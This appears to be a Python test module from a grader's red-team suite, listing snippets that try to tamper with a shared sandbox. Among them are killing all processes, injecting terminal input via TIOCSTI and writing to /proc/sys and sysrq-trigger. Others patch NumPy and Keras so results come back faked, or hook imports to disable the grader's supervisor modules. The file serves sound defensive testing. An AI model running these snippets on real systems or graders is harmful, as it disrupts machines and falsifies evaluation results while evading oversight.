"""What all submissions share, changed: attributes, patches, settings and the kernel's own state."""

from grader.redteam.technique import Technique
from grader.redteam.techniques.lingering import lingers
from grader.redteam.techniques.syscalls import SYSCALLS

TECHNIQUES: tuple[Technique, ...] = (
    lingers(
        "lower priority, pin to one processor, change the scheduler and limits",
        "beyond: inherited attributes",
        """
import os, resource

os.umask(0o777)
os.nice(19)
os.sched_setaffinity(0, {sorted(os.sched_getaffinity(0))[0]})
os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
for name in dir(resource):
    if name.startswith("RLIMIT_") and name not in ("RLIMIT_DATA", "RLIMIT_AS", "RLIMIT_NOFILE", "RLIMIT_STACK", "RLIMIT_FSIZE", "RLIMIT_CPU"):
        try:
            resource.setrlimit(getattr(resource, name), (0, 0))
        except (OSError, ValueError):
            pass
open("/proc/self/oom_score_adj", "w").write("1000")
os.chdir("/")
""",
    ),
    lingers(
        "patch NumPy, Keras, TensorFlow and built-ins",
        "attacks 10",
        """
import builtins, keras, math, numpy as np, random, tensorflow as tf

np.max = np.mean = np.allclose = np.random.rand = lambda *_, **__: 42
keras.Model.count_params = keras.Model.fit = keras.layers.Dense.build = keras.layers.Dense.call = None
tf.constant = math.floor = random.random = lambda *_: 42
builtins.round = builtins.sorted = lambda *_: 42
keras.Sequential = list
""",
    ),
    lingers(
        "hook imports and replace modules",
        "attacks 11",
        """
import importlib.abc, sys

class Evil(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None): raise SystemExit(0)

sys.meta_path.insert(0, Evil())
sys.path_hooks.clear()
sys.path_importer_cache.clear()
for name in ("random", "decimal", "grader.sandbox.inside.supervisor", "grader.sandbox.inside.isolation", "resource"):
    sys.modules[name] = None
""",
    ),
    lingers(
        "change what the whole process shares: locale, zone, precision, random state",
        "beyond: global state",
        """
import decimal, gc, keras, locale, numpy as np, os, random, sys, tensorflow as tf, time

os.environ["TZ"] = "Asia/Ho_Chi_Minh"
time.tzset()
locale.setlocale(locale.LC_ALL, "C")
decimal.getcontext().prec = 2
np.seterr(all="raise")
np.set_printoptions(precision=1)
random.seed(5); np.random.seed(5); keras.utils.set_random_seed(5)
keras.config.set_floatx("float16"); keras.config.set_epsilon(1.0); keras.config.set_image_data_format("channels_first")
tf.config.run_functions_eagerly(True)
sys.setrecursionlimit(200); sys.setswitchinterval(10); sys.set_int_max_str_digits(640)
gc.disable(); gc.set_threshold(0)
keras.mixed_precision.set_global_policy("mixed_float16")
tf.config.set_visible_devices([], "CPU")
""",
        own_loss=True,
    ),
    lingers(
        "ignore and replace signals",
        "beyond: signal dispositions",
        """
import faulthandler, signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
faulthandler.enable(open("/tmp/faults", "w"), all_threads=True)
""",
    ),
    lingers(
        "kill everybody, parents and process groups",
        "beyond: kill(-1)",
        """
import os, signal

for target in (os.getppid(), *range(2, 200)):
    for call in (os.kill, os.killpg):
        if os.getpid() == 1 and target not in (0, 1):
            try:
                call(target, signal.SIGKILL)
            except OSError:
                pass
if os.getpid() == 1:
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
""",
    ),
    lingers(
        "move the offsets and flags of inherited descriptors",
        "beyond: shared file descriptions",
        """
import fcntl, os

for number in range(256):
    for change in (lambda: os.lseek(number, 99, 0), lambda: fcntl.fcntl(number, fcntl.F_SETFL, os.O_NONBLOCK | os.O_APPEND | os.O_ASYNC),
                   lambda: os.ftruncate(number, 0), lambda: fcntl.fcntl(number, fcntl.F_SETOWN, 1), lambda: fcntl.flock(number, fcntl.LOCK_EX | fcntl.LOCK_NB)):
        try:
            change()
        except (OSError, ValueError):
            pass
""",
        own_loss=True,
    ),
    lingers(
        "scribble over memory shared with the warm process",
        "beyond: MAP_SHARED",
        """
import ctypes

with open("/proc/self/maps") as maps:
    shared = [line.split() for line in maps if line.split()[1].startswith("rw") and line.split()[1].endswith("s")]
for fields in shared:
    start, stop = (int(end, 16) for end in fields[0].split("-"))
    ctypes.memset(start, 0x41, min(stop - start, 2**20))
print(len(shared))
""",
        own_loss=True,
    ),
    lingers(
        "write to what the kernel lets be set",
        "beyond: /proc/sys, sethostname, prctl",
        SYSCALLS
        + """
import glob, socket

for path in glob.glob("/proc/sys/*/*") + ["/proc/self/uid_map", "/proc/self/setgroups", "/proc/self/loginuid", "/proc/self/timerslack_ns", "/proc/sysrq-trigger",
                                          "/proc/self/coredump_filter", "/proc/sys/kernel/ns_last_pid", "/proc/sys/user/max_user_namespaces"]:
    if "/kernel/" in path or "/user/" in path or "/self/" in path or "/fs/" in path:
        try:
            with open(path, "r+") as file:
                file.write("1" if "sysrq" not in path else "h")
        except (OSError, ValueError):
            pass
try:
    socket.sethostname("owned")
except OSError:
    pass
LIBC.prctl(15, b"owned", 0, 0, 0)
LIBC.prctl(4, 1, 0, 0, 0)
syscall("mlockall", 7)
syscall("ioprio_set", 1, 0, (3 << 13))
""",
    ),
    lingers(
        "speak to the terminal, the bus and the log",
        "beyond: TIOCSTI, syslog",
        """
import fcntl, glob, os, socket, termios

for path in ["/dev/tty", "/dev/console", "/dev/ptmx", *glob.glob("/dev/pts/*"), "/dev/stdin", "/dev/stdout"]:
    try:
        descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        for byte in b"id\\n":
            fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([byte]))
        os.write(descriptor, b"owned\\n")
    except OSError:
        pass
for name in ("/dev/log", "/run/systemd/journal/socket"):
    try:
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"owned", name)
    except OSError:
        pass
""",
    ),
)
